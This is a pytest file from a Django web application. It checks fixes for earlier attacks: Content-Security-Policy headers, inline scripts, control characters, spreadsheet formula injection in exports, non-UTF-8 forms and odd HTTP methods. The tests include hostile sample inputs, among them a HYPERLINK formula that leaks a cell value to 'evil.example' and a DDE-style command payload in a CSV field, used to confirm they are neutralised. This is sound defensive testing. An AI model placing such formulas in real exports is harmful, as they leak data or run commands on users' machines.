"""Holes an attacker used (issue 9): the Content-Security-Policy on every page, text with control
characters, spreadsheet formulas in exports, form bodies that are not UTF-8, odd methods."""

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from jiebang.core import exports
from jiebang.core.text import clean_text, safe_cell
from jiebang.orgs.models import Institution

from .urlwalk import pages_without_arguments

pytestmark = pytest.mark.django_db

SRC = Path(__file__).resolve().parents[2] / "src" / "jiebang"
INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)(?![^>]*application/json)[^>]*>", re.I)


def test_every_page_sends_the_content_security_policy(login, city_admin, client):
    pages = pages_without_arguments()
    assert len(pages) > 40
    anonymous = [client.get(url) for url in ("/", "/accounts/login/", "/needs/online/")]
    staff = login(city_admin)
    for url in pages:
        response = staff.get(url)
        policy = response.headers.get("Content-Security-Policy", "")
        assert "script-src 'self'" in policy, url
        assert "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0], url
        assert "frame-ancestors 'none'" in policy, url
        if response.status_code == 200 and "text/html" in response["Content-Type"]:
            assert not INLINE_SCRIPT.search(response.text), f"inline script on {url}"
            assert not re.search(r"\son[a-z]+=", response.text), f"event handler on {url}"
    for response in anonymous:
        assert "script-src 'self'" in response.headers["Content-Security-Policy"]


def test_no_template_has_an_inline_script_or_event_handler():
    for template in SRC.rglob("templates/**/*.html"):
        text = template.read_text()
        assert not INLINE_SCRIPT.search(text), template
        assert not re.search(r"\son(click|load|error|change|submit)=", text), template


def test_page_scripts_escape_names_before_they_reach_html():
    """Every tooltip formatter in our scripts passes the values through esc()."""
    for script in (SRC / "static" / "js").glob("*.js"):
        text = script.read_text()
        assert "innerHTML" not in text and "insertAdjacentHTML" not in text, script
        if "formatter" in text and "tooltip" in text:
            assert "encodeHTML" in text, script


def test_control_characters_never_reach_the_database():
    institution = Institution.objects.get(name="冠县人民医院")
    institution.name = "冠县\x07人民\x00医院"
    institution.save()
    institution.refresh_from_db()
    assert institution.name == "冠县人民医院"
    assert clean_text("a\tb\nc\r\x1b[31m\x7f\x85\ufffe") == "a\tb\nc\r[31m"


def test_safe_cell_keeps_formulas_as_text():
    assert safe_cell('=HYPERLINK("http://x"&B5,"打开附件")').startswith("'=")
    for danger in ("+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(danger).startswith("'"), danger
    assert safe_cell("正常的文字") == "正常的文字"
    assert safe_cell(-3) == -3 and safe_cell(None) is None


def test_workbooks_keep_formulas_and_control_characters_as_text():
    book = exports.new_workbook()
    sheet = book.active
    exports.write(sheet, 1, 1, '=HYPERLINK("http://evil.example/"&B5,"打开附件")')
    exports.append(sheet, ["铃\x07声", "@cmd", 5])
    sheet = load_workbook(io.BytesIO(exports.workbook_bytes(book))).active
    assert sheet["A1"].data_type == "s" and sheet["A1"].quotePrefix
    assert sheet["A1"].value.startswith("=HYPERLINK")
    assert sheet["A2"].value == "铃声"
    assert sheet["B2"].quotePrefix and sheet["C2"].value == 5


def test_csv_exports_keep_formulas_as_text():
    content = exports.csv_bytes(["名称"], [["=1+2"], ["-cmd|' /C calc'!A0"], ["正常"]])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows == [["名称"], ["'=1+2"], ["'-cmd|' /C calc'!A0"], ["正常"]]


def test_only_core_exports_writes_spreadsheets():
    """One helper writes every CSV and XLSX, so no export can forget the rules above."""
    offenders = []
    for module in SRC.rglob("*.py"):
        if module.name == "exports.py" and module.parent.name == "core":
            continue
        text = module.read_text()
        if re.search(r"csv\.writer\(|\bWorkbook\(\)|\.save\(out\)", text):
            offenders.append(str(module.relative_to(SRC)))
    assert offenders == []


@pytest.mark.parametrize("path", ["/accounts/login/", "/needs/online/", "/i18n/setlang/"])
def test_a_form_in_another_charset_is_refused(client, path):
    gbk = "username=%C4%E3%BA%C3&password=x&language=en"
    response = client.post(path, gbk, content_type="application/x-www-form-urlencoded; charset=gbk")
    assert response.status_code == 400
    invalid = client.post(path, gbk, content_type="application/x-www-form-urlencoded")
    assert invalid.status_code == 400
    assert "UTF-8" in invalid.content.decode()


@pytest.mark.parametrize("method", ["TRACE", "PUT", "DELETE", "OPTIONS", "PATCH"])
def test_pages_answer_only_their_methods(client, method):
    for path in ("/", "/accounts/login/", "/needs/online/"):
        assert client.generic(method, path).status_code == 405, (method, path)
